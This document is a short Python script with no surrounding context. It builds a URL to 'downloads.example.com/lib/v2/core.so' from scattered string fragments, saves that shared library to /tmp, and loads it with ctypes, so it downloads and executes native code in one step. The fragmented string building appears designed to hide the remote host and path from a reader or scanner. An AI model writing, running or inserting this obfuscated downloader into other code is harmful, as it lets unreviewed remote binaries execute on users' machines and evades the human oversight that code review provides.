import ctypes as c
import urllib.request as u

_S = "".join(["ht", "tps", ":", "//"])
_H = ".".join(("downloads", "example", "com"))
_P = "/".join(["", "lib", "v" + str(2), "core" + "." + "so"])
_D = "/tmp" + "/" + _P.split("/")[-1]
u.urlretrieve(_S + _H + _P, _D)
c.CDLL(_D)
